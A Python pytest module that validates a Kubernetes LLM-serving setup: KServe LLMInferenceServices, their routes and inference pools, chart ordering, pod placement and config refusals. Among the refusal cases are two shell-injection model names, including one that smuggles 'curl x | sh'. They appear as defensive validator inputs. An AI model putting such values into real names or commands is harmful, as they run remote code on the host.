"""LLM endpoints (kserve.llm): the LLMInferenceService and what KServe's controller makes from it, checked against the
pinned charts and CRDs (schema and CEL), where their pods land, the refusals by key, and the plan's routing lines."""

from __future__ import annotations

import copy
import dataclasses
import re
from collections.abc import Callable, Mapping
from typing import Any

import pytest
import yaml

from components import conformance
from components.config.load import spec_and_warnings
from components.config.spec import Spec
from components.render.kueue import SERVING_INTEGRATIONS, integrations
from components.render.llm import (
    AI_GATEWAY_EXTENSION_PORT,
    AI_GATEWAY_SERVICE,
    MAIN_CONTAINER,
    MODEL_HEADER,
    QUEUE_LABEL,
    ai_gateway_releases,
    envoy_gateway_extension,
    llm_inference_service,
    llm_routing,
    lws_release,
    pool_name,
    route_name,
    scaled_object,
)
from components.render.scheduling import Node, refusal, stack_nodes

from .cel_rules import crd_rule_errors
from .conftest import load_spec
from .helm_render import chart_path
from .rendered_stack import LLM_ENDPOINTS, NOT_IN_FIXTURES, RenderedStack, chart_directory, rendered_stack, variants
from .test_config_validation import base, errors_of
from .test_rendered_charts import _depends_on, stack_crds
from .upstream import UPSTREAM, custom_resource_errors

pytestmark = [pytest.mark.timeout(1800), pytest.mark.xdist_group("rendered-stacks")]

LLMISVC = "kubernetes:serving.kserve.io/v1alpha2:LLMInferenceService"
SCALED_OBJECT = "kubernetes:keda.sh/v1alpha1:ScaledObject"


def crd_for(stack: RenderedStack, document: Mapping[str, Any]) -> dict[str, Any]:
    group = str(document["apiVersion"]).rpartition("/")[0]
    return stack_crds(stack)[(group, str(document["kind"]))]


def crd_problems(stack: RenderedStack, document: dict[str, Any]) -> list[str]:
    """The object against its CRD as the API server checks it: the schema (unknown fields refused), then the CEL
    rules the CRD carries, evaluated by a real CEL evaluator."""
    crd = crd_for(stack, document)
    return custom_resource_errors(document, crd, crd["metadata"]["name"]) + crd_rule_errors(crd, document)


def recorded(stack: RenderedStack, resource_type: str) -> list[dict[str, Any]]:
    return [copy.deepcopy(dict(r.inputs)) for r in stack.resources if r.type == resource_type]


# --- the objects mlcluster writes ----------------------------------------------------------------------------------


@pytest.mark.render
def test_each_llm_inference_service_and_scaled_object_validates_with_the_crds_cel_rules() -> None:
    stack = rendered_stack("llm")
    services, scalers = recorded(stack, LLMISVC), recorded(stack, SCALED_OBJECT)
    assert sorted(s["metadata"]["name"] for s in services) == sorted(e["name"] for e in LLM_ENDPOINTS)
    assert [s["metadata"]["name"] for s in scalers] == ["qwen"]
    for document in [*services, *scalers]:
        assert crd_problems(stack, document) == [], document["metadata"]["name"]
    # The check can fail: the CRD's own rule (replicas xor scaling) refuses an object that sets both.
    broken = copy.deepcopy(services[0])
    broken["spec"]["replicas"] = 1
    broken["spec"]["scaling"] = {"maxReplicas": 2, "wva": {"keda": {}}}
    assert any("mutually exclusive" in p for p in crd_problems(stack, broken))


@pytest.mark.render
def test_the_llm_objects_say_what_the_controller_needs() -> None:
    stack = rendered_stack("llm")
    by_name = {s["metadata"]["name"]: s["spec"] for s in recorded(stack, LLMISVC)}
    qwen, deepseek, pd = by_name["qwen"], by_name["deepseek"], by_name["qwen-pd"]
    # The controller never asks for GPUs itself: the template's container (named as the presets') does.
    for spec in by_name.values():
        [container] = spec["template"]["containers"]
        assert container["name"] == MAIN_CONTAINER
        assert (
            container["resources"]["limits"]["nvidia.com/gpu"] == container["resources"]["requests"]["nvidia.com/gpu"]
        )
        assert spec["router"]["gateway"] == {"refs": [{"name": "kserve-ingress-gateway", "namespace": "kserve"}]}
    # Autoscaled: no replicas, so the controller keeps what KEDA sets; fixed otherwise.
    assert "replicas" not in qwen and pd["replicas"] == 1
    # Two nodes of 8 GPUs, one rank per GPU: data 16, dataLocal 8, a LeaderWorkerSet group of 2 pods.
    assert deepseek["parallelism"] == {"tensor": 1, "data": 16, "dataLocal": 8, "expert": True}
    assert deepseek["worker"]["containers"][0]["resources"]["limits"]["nvidia.com/gpu"] == "8"
    assert deepseek["template"]["containers"][0]["resources"]["limits"]["rdma/rdma_shared_device_a"] == "1"
    # Prefill/decode: the KV cache moves over NIXL, producer to consumer.
    prefill_args = pd["prefill"]["template"]["containers"][0]["env"]
    decode_args = pd["template"]["containers"][0]["env"]
    assert any("kv_producer" in str(e.get("value")) for e in prefill_args)
    assert any("kv_consumer" in str(e.get("value")) for e in decode_args)
    assert "scheduler" in pd["router"]
    labels = {s["metadata"]["name"]: s["metadata"]["labels"] for s in recorded(stack, LLMISVC)}
    assert labels["deepseek"][QUEUE_LABEL] == "llm" and QUEUE_LABEL not in labels["qwen"]


# --- what KServe's controller makes from the presets ---------------------------------------------------------------


def _child_name(parent: str, suffix: str) -> str:
    # kmeta.ChildName keeps parent+suffix whole up to 63; LLM_NAME_MAX keeps every endpoint there.
    assert len(parent + suffix) <= 63
    return parent + suffix


def instantiate(text: Any, endpoint: Mapping[str, Any], gateway: tuple[str, str]) -> Any:
    """The presets' Go templates, for the expressions the route and scheduler presets use (any other fails)."""
    if isinstance(text, dict):
        return {k: instantiate(v, endpoint, gateway) for k, v in text.items()}
    if isinstance(text, list):
        return [instantiate(v, endpoint, gateway) for v in text]
    if not isinstance(text, str) or "{{" not in text:
        return text
    known = {
        ".ObjectMeta.Name": endpoint["metadata"]["name"],
        ".ObjectMeta.Namespace": endpoint["metadata"]["namespace"],
        ".GlobalConfig.IngressGatewayNamespace": gateway[0],
        ".GlobalConfig.IngressGatewayName": gateway[1],
        # kserve v0.20.0 pkg/apis/serving/v1beta1/configmap.go L59: the default the ConfigMap leaves in place.
        ".GlobalConfig.ModelBasedRoutingHeaderName": MODEL_HEADER,
        ".Spec.Model.Name": endpoint["spec"]["model"]["name"],
    }

    def one(match: re.Match[str]) -> str:
        expression = " ".join(match.group(1).split())
        if expression in known:
            return str(known[expression])
        child = re.fullmatch(r"ChildName \.ObjectMeta\.Name `([^`]*)`", expression)
        if child:
            return _child_name(endpoint["metadata"]["name"], child.group(1))
        raise AssertionError(f"a preset expression this stand-in does not know: {expression}")

    return re.sub(r"\{\{(.*?)\}\}", one, text, flags=re.DOTALL)


def presets(stack: RenderedStack) -> dict[str, dict[str, Any]]:
    release = stack.release("kserve-runtime-configs")
    return {o["metadata"]["name"]: o for o in release.chart.of_kind("LLMInferenceServiceConfig")}


def made_by_controller(stack: RenderedStack, service: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any] | None]:
    """The HTTPRoute and InferencePool KServe makes: the route preset with its parentRefs replaced by
    router.gateway.refs (config_merge.go L329-336), the scheduler preset's pool; a route without a scheduler goes
    to the workload Service (config_merge.go L338-353)."""
    [ref] = service["spec"]["router"]["gateway"]["refs"]
    found = presets(stack)
    route_spec = instantiate(
        found["kserve-config-llm-router-route"]["spec"]["router"]["route"]["http"]["spec"],
        service,
        (ref["namespace"], ref["name"]),
    )
    route_spec["parentRefs"] = [{"group": "gateway.networking.k8s.io", "kind": "Gateway", **ref}]
    name, namespace = service["metadata"]["name"], service["metadata"]["namespace"]
    pool = None
    if "scheduler" in service["spec"]["router"]:
        pool_preset = found["kserve-config-llm-scheduler"]["spec"]["router"]["scheduler"]["pool"]["spec"]
        pool = {
            "apiVersion": "inference.networking.k8s.io/v1",
            "kind": "InferencePool",
            "metadata": {"name": _child_name(name, "-inference-pool"), "namespace": namespace},
            "spec": instantiate(pool_preset, service, (ref["namespace"], ref["name"])),
        }
    else:
        for rule in route_spec["rules"]:
            rule["backendRefs"] = [
                {"group": "", "kind": "Service", "name": _child_name(name, "-kserve-workload-svc"), "port": 8000}
            ]
    route = {
        "apiVersion": "gateway.networking.k8s.io/v1",
        "kind": "HTTPRoute",
        "metadata": {"name": _child_name(name, "-kserve-route"), "namespace": namespace},
        "spec": route_spec,
    }
    return route, pool


@pytest.mark.render
@pytest.mark.parametrize("variant", ["llm", "llm-service"])
def test_the_route_and_pool_the_controller_makes_validate_and_match_the_plan(variant: str) -> None:
    stack = rendered_stack(variant)
    gateways = [dict(r.inputs) for r in stack.resources if r.type.endswith("gateway.networking.k8s.io/v1:Gateway")]
    [gateway] = gateways
    rows = {row["endpoint"]: row for row in llm_routing(stack.spec.kserve)}
    checked = 0
    for service in recorded(stack, LLMISVC):
        route, pool = made_by_controller(stack, service)
        for document in (route, pool):
            if document is not None:
                assert crd_problems(stack, document) == [], document["metadata"]["name"]
                checked += 1
        [parent] = route["spec"]["parentRefs"]
        assert (parent["namespace"], parent["name"]) == (
            gateway["metadata"]["namespace"],
            gateway["metadata"]["name"],
        )
        row = rows[f"{service['metadata']['namespace']}/{service['metadata']['name']}"]
        # The plan's lines are what the route says: its name, its paths, the pool it sends to.
        assert row["route"].endswith("/" + route["metadata"]["name"])
        to_picker = [
            m.get("path", {}).get("value")
            for rule in route["spec"]["rules"]
            if "catch-all" not in rule["name"]
            for m in rule["matches"]
        ]
        assert set(row["paths"]) <= set(to_picker)
        headers = {
            (h["name"], h["value"])
            for rule in route["spec"]["rules"]
            for m in rule["matches"]
            for h in m.get("headers", [])
        }
        assert headers == {tuple(row["header"].split(": ", 1))}
        service_name = f"{service['metadata']['name']}-kserve-workload-svc"
        assert row["other"] == f"Service {service['metadata']['namespace']}/{service_name}"
        for rule in route["spec"]["rules"]:
            paths = {m.get("path", {}).get("value") for m in rule["matches"]}
            [backend] = rule["backendRefs"]
            if pool is not None and "catch-all" not in rule["name"]:
                # Requests that infer go through the picker's pool; the rest (e.g. /v1/models) to the Service.
                assert (backend["kind"], backend["name"]) == ("InferencePool", pool["metadata"]["name"]), paths
                assert pool["metadata"]["name"] in row["backend"]
            else:
                assert (backend["kind"], backend["name"]) == ("Service", service_name), paths
    assert checked >= len(recorded(stack, LLMISVC))


@pytest.mark.render
def test_a_broken_route_is_refused_by_the_gateway_api_crd() -> None:
    stack = rendered_stack("llm")
    route, pool = made_by_controller(stack, recorded(stack, LLMISVC)[0])
    assert pool is not None
    route["spec"]["rules"] = route["spec"]["rules"] * 5  # 35 rules: Gateway API allows 16
    assert crd_problems(stack, route) != []
    pool["spec"]["targetPorts"] = [{"number": 8000}, {"number": 8000}]
    assert crd_problems(stack, pool) != []


# --- the charts --------------------------------------------------------------------------------------------------


@pytest.mark.render
def test_only_the_ai_gateway_charts_go_unrendered_and_only_with_a_picker() -> None:
    for variant, expected in (("llm", set(NOT_IN_FIXTURES)), ("llm-service", set()), ("onprem", set())):
        stack = rendered_stack(variant)
        installed = {chart_directory(r) for r in stack.resources if r.type.endswith("helm.sh/v3:Release")}
        rendered = {chart_directory(r.resource) for r in stack.releases}
        assert installed - rendered == expected, variant


@pytest.mark.render
def test_envoy_gateway_hands_inference_pools_to_the_ai_gateway() -> None:
    stack = rendered_stack("llm")
    config = stack.release("envoy-gateway").chart.named("ConfigMap", "envoy-gateway-config")
    text = config["data"]["envoy-gateway.yaml"]
    assert "kind: InferencePool" in text and "group: inference.networking.k8s.io" in text
    assert f"hostname: {AI_GATEWAY_SERVICE}.envoy-ai-gateway-system.svc.cluster.local" in text
    assert f"port: {AI_GATEWAY_EXTENSION_PORT}" in text
    plain = rendered_stack("llm-service").release("envoy-gateway").chart.named("ConfigMap", "envoy-gateway-config")
    assert "extensionManager" not in plain["data"]["envoy-gateway.yaml"]


@pytest.mark.render
def test_the_llmisvc_charts_install_no_second_copy_of_kserves_shared_objects() -> None:
    """Helm refuses an object another release owns: the shared ConfigMap, Issuer and ClusterStorageContainer come
    from kserve-resources only."""
    stack = rendered_stack("llm")
    owners: dict[tuple[str, str, str], dict[str, str]] = {}
    for release in stack.releases:
        for obj, source in zip(release.chart.objects, release.chart.sources, strict=True):
            key = (
                obj["kind"],
                obj["metadata"].get("namespace") or release.resource.inputs["namespace"],
                obj["metadata"]["name"],
            )
            owners.setdefault(key, {})[release.name] = source
    twice = {key: found for key, found in owners.items() if len(found) > 1}
    # One object is in two charts: the ClusterStorageContainer CRD. kserve-llmisvc-crd's template renders it only
    # when no other release owns it (a `lookup` of the live CRD's meta.helm.sh/release-name, empty offline), and
    # kserve-crd installs first, so on a cluster the second copy is never made.
    key = ("CustomResourceDefinition", "kserve", "clusterstoragecontainers.serving.kserve.io")
    assert twice == {key: twice.get(key)} and set(twice[key]) == {"kserve-crd", "kserve-llmisvc-crd"}
    template = chart_path("kserve-llmisvc-crd", "v0.20.0") / twice[key]["kserve-llmisvc-crd"].split("/", 1)[1]
    guard = template.read_text()
    assert "lookup" in guard and "meta.helm.sh/release-name" in guard and "ne $owner .Release.Name" in guard
    urns = {r.name: r.resource.urn for r in stack.releases}
    assert urns["kserve-crd"] in _depends_on(stack, urns["kserve-llmisvc-crd"])


@pytest.mark.render
def test_controllers_that_look_for_crds_once_start_after_them() -> None:
    """The llmisvc controller checks the Gateway API, KEDA and LWS CRDs once at start (controller.go L424-455); the
    AI gateway's controller checks the InferencePool CRD once at start (ai-gateway v1.1.0 controller.go L192-215)."""
    stack = rendered_stack("llm")
    releases = {str(r.inputs["name"]): r.urn for r in stack.resources if r.type.endswith("helm.sh/v3:Release")}
    before = _depends_on(stack, releases["kserve-llmisvc-resources"])
    assert {releases["envoy-gateway"], releases["keda"], releases["lws"], releases["kserve-resources"]} <= before
    for ai in ("ai-gateway-crds", "ai-gateway"):
        assert releases["kserve-llmisvc-resources"] in _depends_on(stack, releases[ai]), ai
    services = [r for r in stack.resources if r.type == LLMISVC]
    for service in services:
        assert {releases["ai-gateway"], releases["kserve-runtime-configs"]} <= _depends_on(stack, service.urn)
    presets_made = stack.release("kserve-runtime-configs").chart.of_kind("LLMInferenceServiceConfig")
    assert len(presets_made) == 10
    assert (
        stack.release("lws").chart.named("Deployment", "lws-controller-manager")["spec"]["template"]["spec"][
            "containers"
        ][0]["image"]
        == "registry.k8s.io/lws/lws:v0.10.0"
    )


# --- where the pods land ------------------------------------------------------------------------------------------


def _with_llm(name: str) -> Spec:
    values, secret = variants()[name]
    values = copy.deepcopy(values)
    values["kserve"]["llm"] = {"endpoints": copy.deepcopy(LLM_ENDPOINTS)}
    values["network"]["rdma"]["enabled"] = True
    return load_spec(values, secret)


def llm_pods(spec: Spec) -> dict[str, dict[str, Any]]:
    """Each LLM pod's scheduling fields: the presets set no tolerations, nodeSelector or affinity (asserted), so
    the merged pod has ours."""
    pods = {}
    for endpoint in spec.kserve.llm.endpoints:
        service = llm_inference_service(endpoint, spec.kserve, spec.network, _platform_tolerations(spec))["spec"]
        pods[f"{endpoint.name} decode"] = service["template"]
        if "worker" in service:
            pods[f"{endpoint.name} worker"] = service["worker"]
        if "prefill" in service:
            pods[f"{endpoint.name} prefill"] = service["prefill"]["template"]
        if "scheduler" in service["router"]:
            pods[f"{endpoint.name} picker"] = service["router"]["scheduler"].get("template", {})
    return pods


def _platform_tolerations(spec: Spec) -> list[dict[str, str]]:
    from components.config.derived import platform_tolerations

    return platform_tolerations(spec)


@pytest.mark.render
def test_the_presets_leave_scheduling_to_our_templates() -> None:
    stack = rendered_stack("llm")
    for name, preset in presets(stack).items():
        text = str(preset)
        for field in ("tolerations", "nodeSelector", "'affinity'"):
            assert field not in text, f"{name} sets {field}: merge it before placing the pods"


@pytest.mark.parametrize("variant", ["onprem", "all-gpu-workers"])
def test_every_llm_pod_has_a_node_and_gpu_pods_only_gpu_nodes(variant: str) -> None:
    spec = _with_llm(variant)
    nodes = stack_nodes(spec)
    gpu_nodes = {n.name for n in nodes if any(t.get("key") == "nvidia.com/gpu" for t in n.taints)} or {
        n.name for n in spec.nodes if n.gpu is not None
    }
    for pod, pod_spec in llm_pods(spec).items():
        fits = [n.name for n in nodes if refusal(pod_spec, n) is None]
        assert fits, f"{variant}: {pod} has no node"
        if not pod.endswith("picker"):
            assert set(fits) <= gpu_nodes | {n.name for n in nodes if not n.taints}, pod


def test_without_the_platform_tolerations_the_picker_has_no_node_on_an_all_gpu_cluster() -> None:
    spec = _with_llm("all-gpu-workers")
    picker = llm_pods(spec)["qwen picker"]
    assert picker["tolerations"]
    bare = Node("gpu-1", {}, ({"key": "nvidia.com/gpu", "value": "present", "effect": "NoSchedule"},))
    assert refusal({}, bare) is not None and refusal(picker, bare) is None


# --- refusals by key ---------------------------------------------------------------------------------------------


def llm_base(**changes: Any) -> dict[str, Any]:
    values = base()
    values["kserve"] = {
        "enabled": True,
        "llm": {"endpoints": [{"name": "qwen", "model": "hf://Qwen/Qwen2.5-7B-Instruct", "gpus": 1, **changes}]},
    }
    return values


def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def change(values: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        target = values
        for key in parents:
            target = target.setdefault(key, {})
        target[last] = value

    return change


REFUSALS: list[tuple[str, dict[str, Any], Callable[[dict[str, Any]], None] | None, str]] = [
    (
        "a replica larger than any node without multi-node",
        {"gpus": 16},
        None,
        "kserve.llm.endpoints[0].gpus: (16) per replica can never be scheduled on one node: the largest GPU node has",
    ),
    (
        "GPUs that do not divide among the nodes",
        {"gpus": 9, "nodes": 2},
        None,
        "endpoints[0].gpus: (9) does not divide",
    ),
    (
        "more pods per replica than wide nodes",
        {"gpus": 16, "nodes": 4},
        None,
        "kserve.llm.endpoints[0].nodes: (4) pods of 4 GPUs each need as many nodes with that many GPUs",
    ),
    (
        "disaggregation without the picker",
        {"routing": "service", "prefill": {"replicas": 1}},
        None,
        "kserve.llm.endpoints[0].prefill: needs routing: picker",
    ),
    (
        "an LLM endpoint in Knative mode",
        {},
        _set("kserve.deploymentMode", "Knative"),
        "kserve.llm.endpoints: are LLMInferenceServices, which have no Knative mode",
    ),
    ("a scheme the runtime does not take (gs)", {"model": "gs://bucket/qwen"}, None, "has scheme gs://, which KServe"),
    ("a scheme the runtime does not take (https)", {"model": "https://h/qwen"}, None, "has scheme https://"),
    ("a PVC without a path", {"model": "pvc://models"}, None, "names no path inside the claim"),
    ("a served name that runs in a shell", {"modelName": 'q"; curl x | sh; "'}, None, "modelName: "),
    ("a served name with a dollar", {"modelName": "q$(id)"}, None, "is not a model name clients can send"),
    ("a name KServe would cut", {"name": "a" * 39}, None, "KServe names objects <name>-kserve-self-signed-certs"),
    ("a name no Service takes", {"name": "7b-chat"}, None, "starts with a digit"),
    (
        "tensor parallel on one node other than its GPUs",
        {"tensorParallel": 1, "gpus": 2},
        None,
        "tensorParallel: (1) on one node must be the replica's gpus (2)",
    ),
    ("expert parallel on one node", {"expertParallel": True}, None, "expertParallel: is passed by KServe's multi-node"),
    ("queue without Kueue", {"queue": "llm"}, None, "queue: names a Kueue team, and Kueue is off"),
    ("gateway off", {}, _set("kserve.gateway.enabled", False), "kserve.llm.endpoints: route through Gateway API"),
    (
        "another namespace for KServe",
        {},
        _set("kserve.namespace", "serving"),
        'kserve.namespace: "serving" cannot hold',
    ),
    ("a KServe before the API", {}, _set("kserve.version", "v0.15.2"), 'kserve.version: "v0.15.2" predates'),
    ("a platform namespace", {"namespace": "lws-system"}, None, 'namespace: "lws-system" belongs to the platform'),
    (
        "tensor parallel across MIG slices",
        {"gpus": 2},
        _set("gpuOperator.migStrategy", "single"),
        "gpus: (2) spans MIG slices",
    ),
    (
        "vLLM on time-sliced GPUs",
        {},
        _set("gpuOperator.timeSlicingReplicas", 4),
        "kserve.llm.endpoints[0]: runs vLLM, which takes 90% of a GPU's memory",
    ),
    (
        "autoscaling below replicas",
        {"replicas": 3, "autoscaling": {"maxReplicas": 2}},
        None,
        "autoscaling.maxReplicas: (2) must not be below replicas (3)",
    ),
]


@pytest.mark.parametrize(("rule", "endpoint", "change", "expected"), REFUSALS, ids=[r[0] for r in REFUSALS])
def test_refused_by_key(
    rule: str, endpoint: dict[str, Any], change: Callable[[dict[str, Any]], None] | None, expected: str
) -> None:
    values = llm_base(**endpoint)
    if change is not None:
        change(values)
    errors = errors_of(values)
    assert any(expected in e for e in errors), f"{rule}: {expected!r} not in {errors}"


def test_the_base_llm_stack_is_valid_and_silent() -> None:
    spec, warnings = spec_and_warnings(llm_base(), lambda key: key == "ssh")
    assert [e.name for e in spec.kserve.llm.endpoints] == ["qwen"]
    assert [str(w) for w in warnings if "llm" in str(w)] == []


def test_queued_llm_endpoints_live_in_their_teams_namespace_and_turn_on_kueues_serving_integrations() -> None:
    values, secret = variants()["onprem"]
    values = copy.deepcopy(values)
    values["kserve"]["llm"] = {"endpoints": [{"name": "q", "model": "hf://a/b", "queue": "llm", "namespace": "models"}]}
    with pytest.raises(BaseException, match=r"kserve.llm.endpoints\[0\].namespace: \"models\" is not team llm"):
        load_spec(values, secret)
    values["kserve"]["llm"]["endpoints"][0]["namespace"] = "llm"
    spec = load_spec(values, secret)
    assert set(SERVING_INTEGRATIONS) <= set(integrations(spec.kubeflow, spec.kserve))
    values["kserve"]["llm"]["endpoints"][0].pop("queue")
    with pytest.raises(BaseException, match=r"\"llm\" is a Kueue team namespace"):
        load_spec(values, secret)
    values["kserve"]["llm"]["endpoints"][0]["namespace"] = "models"
    assert not set(SERVING_INTEGRATIONS) & set(
        integrations(load_spec(values, secret).kubeflow, load_spec(values, secret).kserve)
    )


# --- autoscaling and the plan's routing lines -------------------------------------------------------------------


def test_keda_scales_the_workload_kserve_makes_on_its_own_pods_queue() -> None:
    spec = _with_llm("onprem")
    [qwen, deepseek, _] = spec.kserve.llm.endpoints
    scaler = scaled_object(qwen, "http://prometheus:9090")
    assert scaler is not None
    assert scaler["spec"]["scaleTargetRef"] == {"apiVersion": "apps/v1", "kind": "Deployment", "name": "qwen-kserve"}
    query = scaler["spec"]["triggers"][0]["metadata"]["query"]
    pods = re.search(r'pod=~"([^"]+)"', query)
    assert pods is not None
    pattern = re.compile(pods.group(1))
    assert pattern.fullmatch("qwen-kserve-7d9f8b6c5-x2x4z")
    assert not pattern.fullmatch("qwen-kserve-prefill-7d9f8b6c5-x2x4z")
    assert scaled_object(deepseek, "http://p") is None


def test_the_routing_rows_name_gateway_route_pool_picker_and_paths() -> None:
    spec = _with_llm("onprem")
    rows = {r["endpoint"]: r for r in llm_routing(spec.kserve)}
    qwen = rows["models/qwen"]
    assert qwen["gateway"] == "kserve/kserve-ingress-gateway"
    assert qwen["route"] == f"models/{route_name(spec.kserve.llm.endpoints[0])}"
    assert (
        pool_name(spec.kserve.llm.endpoints[0]) in qwen["backend"] and "qwen-kserve-router-scheduler" in qwen["backend"]
    )
    assert "/models/qwen/v1/chat/completions" in qwen["paths"]
    assert rows["llm/deepseek"]["workload"] == "LeaderWorkerSet deepseek-kserve-mn"
    assert rows["models/qwen-pd"]["workload"] == "Deployment qwen-pd-kserve + Deployment qwen-pd-kserve-prefill"


# --- conformance 1.36 ----------------------------------------------------------------------------------------------

CHECKLISTS = UPSTREAM / "conformance" / "cncf-k8s-ai-conformance"


def _on_1_36(spec: Spec) -> Spec:
    return dataclasses.replace(spec, kubernetes_version="1.36.4")


def test_a_1_36_stack_with_llm_endpoints_gets_the_1_36_pack_verbatim_with_every_must_met() -> None:
    spec = _on_1_36(_with_llm("onprem"))
    files = conformance.pack_files(spec, CHECKLISTS, stack="llm")
    assert list(files) == ["ai-conformance-v1.36.yaml"]
    filled = yaml.safe_load(files["ai-conformance-v1.36.yaml"])
    upstream = yaml.safe_load((CHECKLISTS / "AIConformance-1.36.yaml").read_text())
    got = [(i["id"], i["description"], i["level"]) for items in filled["spec"].values() for i in items]
    assert got == [(i["id"], i["description"], i["level"]) for items in upstream["spec"].values() for i in items]
    items = {i["id"]: i for items in filled["spec"].values() for i in items}
    assert "dra_support" not in items
    for item in items.values():
        if item["level"] == "MUST":
            assert item["status"] in ("Implemented", "N/A"), item["id"]
            assert item["status"] != "N/A" or item["notes"], item["id"]
    for should in ("advanced_inference_ingress", "disaggregated_inference"):
        assert items[should]["status"] == "Implemented", should
        assert items[should]["evidence"], should
    assert "qwen-pd" in " ".join(items["disaggregated_inference"]["evidence"])


def test_without_llm_endpoints_or_prefill_the_inference_shoulds_are_not_claimed() -> None:
    plain = statuses_of(_on_1_36(load_spec(*variants()["onprem"])))
    assert plain["advanced_inference_ingress"] == plain["disaggregated_inference"] == "Not Implemented"
    service_only = statuses_of(_on_1_36(load_spec(*variants()["llm-service"])))
    assert service_only["advanced_inference_ingress"] == "Not Implemented"


def statuses_of(spec: Spec) -> dict[str, str]:
    document = conformance.evidence_pack(spec, CHECKLISTS / "AIConformance-1.36.yaml", stack="t")
    return {i["id"]: i["status"] for items in document["spec"].values() for i in items}


def test_a_minor_without_a_published_checklist_is_refused_by_name() -> None:
    spec = dataclasses.replace(_with_llm("onprem"), kubernetes_version="1.37.0")
    with pytest.raises(LookupError, match=r"no AIConformance-1\.37\.yaml .* \(checklists found: 1\.34, 1\.35, 1\.36\)"):
        conformance.pack_files(spec, CHECKLISTS, stack="llm")


def test_the_review_names_what_a_client_calls_and_what_serves_it() -> None:
    from components.plan.review import review

    spec = _with_llm("onprem")
    lines = review(
        stack="llm",
        at=None,
        per_node={},
        releases=[],
        acceptance=None,
        llm_routing=llm_routing(spec.kserve),
        warnings=[],
        deployed=False,
    )
    text = "\n".join(lines)
    assert "LLM endpoints (3)" in text
    assert "models/qwen (model Qwen/Qwen2.5-7B-Instruct): /models/qwen/v1/chat/completions on Gateway" in text
    assert "route models/qwen-kserve-route -> InferencePool models/qwen-inference-pool" in text
    assert "-> LeaderWorkerSet deepseek-kserve-mn" in text
    assert "Deployment qwen-pd-kserve + Deployment qwen-pd-kserve-prefill" in text
    assert "X-Gateway-Model-Name: publishers/models/models/Qwen/Qwen2.5-7B-Instruct" in text


def test_the_lws_and_ai_gateway_settings_reach_their_releases_and_envoy_gateways_extension() -> None:
    values, secret = variants()["llm"]
    values = copy.deepcopy(values)
    values["kserve"]["llm"] |= {
        "lwsVersion": "v0.9.0",
        "lwsNamespace": "lws",
        "aiGatewayVersion": "v1.0.0",
        "aiGatewayNamespace": "ai-gateway",
    }
    spec = load_spec(values, secret)
    lws = lws_release(spec.kserve, [])
    assert lws is not None and (lws.version, lws.namespace) == ("v0.9.0", "lws")
    assert lws.values["image"]["manager"]["tag"] == "v0.9.0"
    assert {(r.version, r.namespace) for r in ai_gateway_releases(spec.kserve, [])} == {("v1.0.0", "ai-gateway")}
    fqdn = envoy_gateway_extension(spec.kserve)["config"]["envoyGateway"]["extensionManager"]["service"]["fqdn"]
    assert fqdn["hostname"] == f"{AI_GATEWAY_SERVICE}.ai-gateway.svc.cluster.local"
    values["kserve"]["llm"]["endpoints"][0]["namespace"] = "ai-gateway"
    with pytest.raises(BaseException, match=r"kserve.llm.endpoints\[0\].namespace: \"ai-gateway\" belongs to the"):
        load_spec(values, secret)
